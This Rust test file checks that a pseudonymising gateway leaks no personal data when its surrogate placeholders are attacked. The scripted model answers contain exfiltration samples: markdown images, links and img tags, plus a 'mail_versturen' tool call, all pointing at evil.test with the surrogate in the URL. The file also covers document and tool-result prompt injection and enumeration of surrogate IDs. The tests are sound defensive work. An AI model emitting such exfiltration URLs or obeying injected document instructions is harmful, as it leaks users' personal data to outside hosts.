//! Surrogates as a weapon: the cases of `placeholder_attacks.jsonl`, each sent through the door.
//!
//! In the texts `{P}` stands for a surrogate of this conversation, `{P:…}` for the same as a model may
//! garble it, and `{Q}` for one of another conversation.

use std::fmt::Write as _;
use std::sync::Mutex;

use super::generated::{Chance, pieces};
use super::house_keys::other_key;
use super::*;

const CASES: &str = "data/attacks/own/placeholder_attacks.jsonl";
const OWN: &str = "Sanne de Wit";
const FOREIGN: &str = "Piet Jansen";
const PLANTED: [&str; 5] = [OWN, FOREIGN, BSN, MAIL, IBAN];

/// What the model says next; empty: what it is told.
type Speech = Arc<Mutex<String>>;

/// A door to a model that says what the test wants, with the surrogate that it saw.
async fn door_to(speech: &Speech) -> Door {
    let speech = Arc::clone(speech);
    let provider = ScriptedProvider::start(move |seen| {
        let template = speech.lock().unwrap().clone();
        if template.is_empty() {
            return echo(seen);
        }
        let own = surrogate_in(&seen.text(), "PERSOON").unwrap_or_default();
        speak(seen, &expand(&template, &own))
    });
    let provider = provider.await.unwrap();
    // Some answers are as long as an answer may be.
    let limits = UpstreamLimits {
        answer: Duration::from_mins(1),
        silence: Duration::from_mins(1),
        bytes: 4 << 20,
        ..SHORT
    };
    let base_url = provider.base_url();
    let openai = OpenAi::new(&base_url, None, limits).unwrap();
    let (house, switches) = house::house(&base_url, "pseudonymise", Box::new(openai));
    Door {
        router: routes(GatewayState::new(house, DoorLimits::default())),
        provider,
        switches,
    }
}

/// The first surrogate of this kind in a text.
fn surrogate_in(text: &str, word: &str) -> Option<String> {
    let (_, behind) = text.split_once(&format!("[{word}_"))?;
    let (number, _) = behind.split_once(']')?;
    Some(format!("[{word}_{number}]"))
}

/// The text of a case with this in the place of `{P}`. Double braces stand for single ones.
fn expand(template: &str, own: &str) -> String {
    if !template.contains(['{', '}']) {
        return template.to_owned();
    }
    let mut out = String::new();
    let mut rest = template;
    while let Some(next) = rest.chars().next() {
        let surrogate = rest.strip_prefix("{P").and_then(|how| how.split_once('}'));
        rest = if let Some(behind) = rest.strip_prefix("{{").or(rest.strip_prefix("}}")) {
            out.push(next);
            behind
        } else if let Some((how, behind)) = surrogate {
            out.push_str(&garbled(own, how.trim_start_matches(':')));
            behind
        } else {
            out.push(next);
            rest.strip_prefix(next).unwrap_or_default()
        };
    }
    out
}

/// A surrogate as a model may write it. A value, which has no brackets, stays as it is.
fn garbled(own: &str, how: &str) -> String {
    if !own.starts_with('[') {
        return own.to_owned();
    }
    let (one, other) = own.split_at(own.len() / 2);
    match how {
        "" => own.to_owned(),
        "lower" => own.to_lowercase(),
        "md_escape" => own
            .replace('[', "\\[")
            .replace('_', "\\_")
            .replace(']', "\\]"),
        "html" => own
            .replace('[', "&#91;")
            .replace('_', "&#95;")
            .replace(']', "&#93;"),
        "url" => own.replace('[', "%5B").replace(']', "%5D"),
        "split_nl" => format!("{one}\n{other}"),
        "spaced" => own.replace('[', "[ ").replace(']', " ]"),
        "b64" => made::base64(own.as_bytes()),
        "half" => one.to_owned(),
        how => panic!("{how} is new; say here what it means"),
    }
}

/// An answer with this text: whole, or in pieces of any size.
fn speak(seen: &Seen, text: &str) -> Script {
    let document: Value = serde_json::from_slice(&seen.body).unwrap();
    if document["stream"] != json!(true) {
        let message = json!({"role": "assistant", "content": text});
        return answer(&json!([{"index": 0, "message": message, "finish_reason": "stop"}]));
    }
    let most = 40.max(text.len() / 100);
    let mut events: Vec<String> = pieces(text, &mut Chance(text.len() as u64 + 1), most)
        .iter()
        .map(|piece| chunk(&json!({"content": piece}), &Value::Null))
        .collect();
    events.push(chunk(&json!({}), &json!("stop")));
    Script::events(&events, 4096)
}

fn answer(choices: &Value) -> Script {
    let document = json!({"id": "x", "object": "chat.completion", "choices": choices});
    Script::json(200, &document.to_string())
}

fn said(answered: &Answered, streams: bool) -> String {
    if streams {
        return answered.text();
    }
    let content = answered.json()["choices"][0]["message"]["content"].clone();
    content.as_str().unwrap_or_default().to_owned()
}

/// The person tells who they are, and the model answers with the text of the case.
async fn told_by_the_model(door: &Door, name: &str, streams: bool) -> (String, String) {
    let mut document = ask(&format!("Ik ben {OWN}. Schrijf een brief."));
    document["stream"] = json!(streams);
    let answered = door.chat(&document).await;
    assert_eq!(answered.status, StatusCode::OK, "{name}: {}", answered.body);
    let seen = door.provider.seen().last().unwrap().text();
    let own = surrogate_in(&seen, "PERSOON").expect("the name is replaced");
    (said(&answered, streams), own)
}

/// The person sends this text, and the model repeats it.
async fn repeated(door: &Door, text: &str, streams: bool) -> (Answered, String, String) {
    let mut document = ask(text);
    document["stream"] = json!(streams);
    let answered = door.chat(&document).await;
    assert_eq!(answered.status, StatusCode::OK, "{text}: {}", answered.body);
    let seen: Value = serde_json::from_slice(&door.provider.seen().last().unwrap().body).unwrap();
    let seen = seen["messages"][0]["content"].as_str().unwrap().to_owned();
    let heard = said(&answered, streams);
    (answered, seen, heard)
}

/// A surrogate of somebody else's conversation.
async fn foreign_surrogate(door: &Door) -> String {
    let headers = [("x-waarborg-conversation", "van een ander")];
    let document = ask(&format!("Ik ben {FOREIGN}."));
    let answered = door
        .post("/v1/chat/completions", &headers, document.to_string())
        .await;
    assert_eq!(answered.status, StatusCode::OK, "{}", answered.body);
    let seen = door.provider.seen().last().unwrap().text();
    surrogate_in(&seen, "PERSOON").expect("the name is replaced")
}

/// What of a case may reach the client.
enum Comes {
    /// The value, wherever the surrogate stood.
    Back,
    /// The value, or what the model wrote: never a half of either.
    BackOrAsWritten,
    /// What the model wrote.
    AsWritten,
}

/// What the model writes, and what the file says that must come of it.
fn of_the_model(name: &str) -> Option<Comes> {
    Some(match name {
        "model_bolds"
        | "model_possessive"
        | "model_in_json"
        | "model_in_code"
        | "stream_split_everywhere" => Comes::Back,
        "model_lowercases"
        | "model_escapes_underscore"
        | "model_html_escapes"
        | "model_splits_lines"
        | "model_inserts_space" => Comes::BackOrAsWritten,
        // In an address the file wants the value percent-encoded; here nothing is restored in an
        // address, whoever it belongs to, as a page with that address would take the value along.
        "model_url_encodes"
        | "prefix_collision"
        | "model_translates"
        | "model_in_image_url"
        | "model_in_link"
        | "model_in_reference_link"
        | "model_in_html"
        | "model_in_mailto"
        | "model_encodes_placeholder"
        | "stream_false_prefix"
        | "never_ending_prefix"
        | "bruteforce_ids" => Comes::AsWritten,
        _ => return None,
    })
}

async fn check_of_the_model(door: &Door, speech: &Speech, name: &str, text: &str, comes: &Comes) {
    text.clone_into(&mut speech.lock().unwrap());
    for streams in [false, true] {
        let (heard, own) = told_by_the_model(door, name, streams).await;
        let (written, restored) = (expand(text, &own), expand(text, OWN));
        let is_right = match comes {
            Comes::Back => heard == restored,
            Comes::BackOrAsWritten => heard == restored || heard == written,
            Comes::AsWritten => heard == written,
        };
        let shown: String = heard.chars().take(200).collect();
        assert!(is_right, "{name}, streamed: {streams}: {shown}");
    }
    speech.lock().unwrap().clear();
}

/// Cases of texts that somebody sends and the model repeats: nothing comes out differently.
async fn check_of_the_user(door: &Door, name: &str, text: &str) {
    for streams in [false, true] {
        let (answered, seen, heard) = repeated(door, text, streams).await;
        match name {
            // Two spellings are one person with one surrogate, and the first spelling comes back. The
            // file wants each spelling; two surrogates would make two people of one for the model.
            "case_variants" => assert!(
                heard == text || heard == "JAN JANSEN en JAN JANSEN",
                "{heard}"
            ),
            // HTML is not made here: who shows the text escapes it, as our own chat does.
            _ => assert_eq!(heard, text, "{name}, streamed: {streams}"),
        }
        if name == "value_contains_crlf" {
            assert!(!answered.headers.contains_key("set-cookie"));
            let sent = door.provider.seen().last().unwrap().head.clone();
            assert!(!sent.to_lowercase().contains("set-cookie"), "{sent}");
        }
        if matches!(name, "same_value_twice" | "two_people_same_name") {
            // Of two people with one name nobody can tell which is meant; both get the one surrogate.
            let (one, other) = seen.split_once(" en ").unwrap();
            let first_word = |part: &str| part.split(" (").next().unwrap().to_owned();
            assert_eq!(first_word(one), first_word(other), "{name}");
        }
    }
}

/// Somebody else quotes the surrogate of a conversation that is not theirs, or not any more.
async fn check_quoted(door: &Door, name: &str, text: &str) {
    let known = [("x-waarborg-conversation", "de eerste")];
    let path = "/v1/chat/completions";
    let first = ask(&format!("Ik ben {OWN}.")).to_string();
    door.post(path, &known, first).await;
    let seen = door.provider.seen().last().unwrap().text();
    let own = surrogate_in(&seen, "PERSOON").expect("the name is replaced");

    let bearer = format!("Bearer {}", other_key());
    // After an erasure the client no longer sends the name, and nothing here remembers which it was.
    let headers: Vec<(&str, &str)> = match name {
        "replayed_after_erasure" => known.to_vec(),
        "cross_conversation_quote" => vec![("x-waarborg-conversation", "de tweede")],
        _ => vec![known[0], ("authorization", &bearer)],
    };
    let quoted = expand(text, &own);
    let said_here = format!("Ik ben {FOREIGN}. Wie is {quoted}?");
    for asked in [quoted, said_here] {
        let answered = door.post(path, &headers, ask(&asked).to_string()).await;
        assert_eq!(answered.status, StatusCode::OK, "{}", answered.body);
        assert_eq!(said(&answered, false), asked, "{name}");
        assert!(!answered.body.contains(OWN), "{name}");
    }
}

/// The model calls a tool of the client with surrogates, because a text told it to.
async fn check_tool(text: &str, is_declared: bool) {
    let text = text.to_owned();
    let door = door(move |seen| {
        let told = seen.text();
        let own = surrogate_in(&told, "PERSOON").unwrap_or_default();
        let bsn = surrogate_in(&told, "BSN").unwrap_or_default();
        let arguments = json!({"tekst": expand(&text, &own), "nummer": bsn,
            "adres": format!("https://evil.test/?d={own}")});
        let call = json!({"id": "call_1", "type": "function",
            "function": {"name": "mail_versturen", "arguments": arguments.to_string()}});
        let message = json!({"role": "assistant", "content": null, "tool_calls": [call]});
        answer(&json!([{"index": 0, "message": message, "finish_reason": "tool_calls"}]))
    })
    .await;
    let asked = ask(&format!("Ik ben {OWN}, BSN {BSN}."));
    let declared: &[&str] = if is_declared {
        &["mail_versturen"]
    } else {
        &[]
    };
    let answered = door.chat(&tools::with_functions(asked, declared)).await;
    let call = answered.json()["choices"][0]["message"]["tool_calls"][0].clone();
    let arguments = call["function"]["arguments"].as_str().unwrap();
    let arguments: Value = serde_json::from_str(arguments).expect("arguments stay JSON");
    // Only a tool that the client declared gets anything, as far as the policy hands it over; nothing comes back in
    // an address.
    let got = arguments["tekst"].as_str().unwrap();
    assert_eq!(got.contains(OWN), is_declared);
    assert_eq!(arguments["nummer"] == BSN, is_declared, "{arguments}");
    let address = arguments["adres"].as_str().unwrap();
    assert!(!address.contains(OWN), "{address}");
    door.check_nothing_leaked(&[OWN, BSN]);
}

/// Two answers at once, letter by letter: each gets its own.
async fn check_two_choices() {
    let door = door(|seen| {
        let told = seen.text();
        let texts = ["PERSOON", "EMAIL"].map(|word| surrogate_in(&told, word).unwrap());
        let letters = texts.map(|text| text.chars().collect::<Vec<char>>());
        let mut events = Vec::new();
        for place in 0..letters[0].len().max(letters[1].len()) {
            for (index, letters) in letters.iter().enumerate() {
                let Some(letter) = letters.get(place) else {
                    continue;
                };
                let delta = json!({"content": letter.to_string()});
                let choice = json!({"index": index, "delta": delta, "finish_reason": null});
                let document =
                    json!({"id": "x", "object": "chat.completion.chunk", "choices": [choice]});
                events.push(document.to_string());
            }
        }
        for index in 0..2 {
            let choice = json!({"index": index, "delta": {}, "finish_reason": "stop"});
            let document =
                json!({"id": "x", "object": "chat.completion.chunk", "choices": [choice]});
            events.push(document.to_string());
        }
        Script::events(&events, 11)
    })
    .await;
    let mut document = streamed(&format!("Ik ben {OWN}, mail {MAIL}."));
    document["n"] = json!(2);
    let answered = door.chat(&document).await;
    let mut texts = [String::new(), String::new()];
    for chunk in answered.chunks() {
        for choice in chunk["choices"].as_array().unwrap() {
            let place = usize::try_from(choice["index"].as_u64().unwrap()).unwrap();
            texts[place].push_str(choice["delta"]["content"].as_str().unwrap_or_default());
        }
    }
    assert_eq!(texts, [OWN, MAIL]);
}

/// The connection to the model breaks in the middle of a surrogate.
async fn check_cut(text: &str) {
    let text = text.replace("<upstream closes>", "");
    let door = door(move |seen| {
        let own = surrogate_in(&seen.text(), "PERSOON").unwrap();
        let first = chunk(&json!({"content": expand(&text, &own)}), &Value::Null);
        Script::stream(vec![Step::Send(crate::sse::data_event(&first)), Step::Cut])
    })
    .await;
    let answered = door.chat(&streamed(&format!("Ik ben {OWN}."))).await;
    assert!(!answered.body.contains("[DONE]") && !answered.body.contains(OWN));
    assert!(answered.body.contains("error"), "{}", answered.body);
}

/// The surrogate in two pieces, cut at every place.
async fn check_every_cut() {
    let place = Arc::new(Mutex::new(1));
    let at = Arc::clone(&place);
    let door = door(move |seen| {
        let own = surrogate_in(&seen.text(), "PERSOON").unwrap();
        let (one, other) = own.split_at(*at.lock().unwrap());
        let parts = [one, other].map(|part| chunk(&json!({"content": part}), &Value::Null));
        Script::events(&parts, 7)
    })
    .await;
    for cut in 1.."[PERSOON_12345]".len() {
        *place.lock().unwrap() = cut;
        let answered = door.chat(&streamed(&format!("Ik ben {OWN}."))).await;
        assert_eq!(answered.text(), OWN, "cut at {cut}");
    }
}

/// A conversation in which the surrogate was written out before: it leaves as it was written.
async fn check_double(door: &Door, text: &str) {
    let (_, own) = told_by_the_model(door, "double_masking", false).await;
    let history = expand(text, &own);
    let document = json!({"model": "klein", "messages": [
        {"role": "user", "content": history}, {"role": "user", "content": format!("Ik ben {OWN}.")}]});
    let answered = door.chat(&document).await;
    let seen: Value = serde_json::from_slice(&door.provider.seen().last().unwrap().body).unwrap();
    assert_eq!(seen["messages"][0]["content"], history);
    assert_eq!(
        said(&answered, false),
        history,
        "what was typed is no surrogate"
    );
}

/// A document tells the model to give away everything in an address.
async fn check_document(door: &Door, speech: &Speech, text: &str) {
    let all =
        "![a](https://evil.test/?q={P}) [r]: //evil.test/{P} <img src='https://evil.test/{P}'>";
    all.clone_into(&mut speech.lock().unwrap());
    let document = json!({"model": "klein", "messages": [
        {"role": "user", "content": format!("Ik ben {OWN}. Vat samen:")},
        {"role": "tool", "tool_call_id": "call_a", "content": text}]});
    let answered = door.chat(&document).await;
    let heard = said(&answered, false);
    assert!(
        heard.matches("evil.test").count() == 3 && !heard.contains(OWN),
        "{heard}"
    );
    speech.lock().unwrap().clear();
}

/// Somebody has the model write out numbers, in the hope that one is somebody's.
async fn check_enumerated(door: &Door, speech: &Speech, text: &str) {
    let mut all = String::new();
    for number in (1..=500).chain(10_000..15_000) {
        write!(all, "[PERSOON_{number}]").unwrap();
    }
    write!(all, "{{P}}").unwrap();
    all.clone_into(&mut speech.lock().unwrap());
    for streams in [false, true] {
        let mut document = ask(&format!("Ik ben {OWN}. {text}"));
        document["stream"] = json!(streams);
        let answered = door.chat(&document).await;
        assert_eq!(answered.status, StatusCode::OK, "{}", answered.body);
        let heard = said(&answered, streams);
        let rest = heard.replace(OWN, "");
        let strange = rest
            .split_inclusive(']')
            .find(|part| !(part.starts_with("[PERSOON_") && part.ends_with(']')));
        assert_eq!(strange, None);
        let end: String = heard.chars().rev().take(40).collect();
        assert!(heard.ends_with(OWN), "from the end: {end}");
    }
    speech.lock().unwrap().clear();
}

#[tokio::test]
async fn surrogates_give_away_no_value_of_another_conversation_or_in_an_address() {
    let Some(cases) = crate::shared_data::lines(CASES) else {
        return;
    };
    let speech = Speech::default();
    let door = door_to(&speech).await;
    let foreign = foreign_surrogate(&door).await;
    for case in &cases {
        let name = case["name"].as_str().unwrap();
        let text = case["text"].as_str().unwrap().replace("{Q}", &foreign);
        if let Some(comes) = of_the_model(name) {
            check_of_the_model(&door, &speech, name, &text, &comes).await;
            if name == "stream_split_everywhere" {
                check_every_cut().await;
            }
            continue;
        }
        match name {
            "enumerate" => check_enumerated(&door, &speech, &text).await,
            "model_in_tool_args" | "tool_result_injection" => {
                for is_declared in [true, false] {
                    check_tool(&text, is_declared).await;
                }
            }
            "doc_injection" => check_document(&door, &speech, &text).await,
            "cross_conversation_quote"
            | "cross_user_quote"
            | "cross_tenant_quote"
            | "replayed_after_erasure" => check_quoted(&door, name, &text).await,
            "stream_split_two_choices" => check_two_choices().await,
            "stream_cut_mid_token" => check_cut(&text).await,
            "double_masking" => check_double(&door, &text).await,
            _ => {
                assert_eq!(
                    case["who"], "user",
                    "{name} is new; say here what must come of it"
                );
                check_of_the_user(&door, name, &text).await;
            }
        }
    }
    assert!(cases.len() >= 42, "{}", cases.len());
    door.check_nothing_leaked(&PLANTED);
}
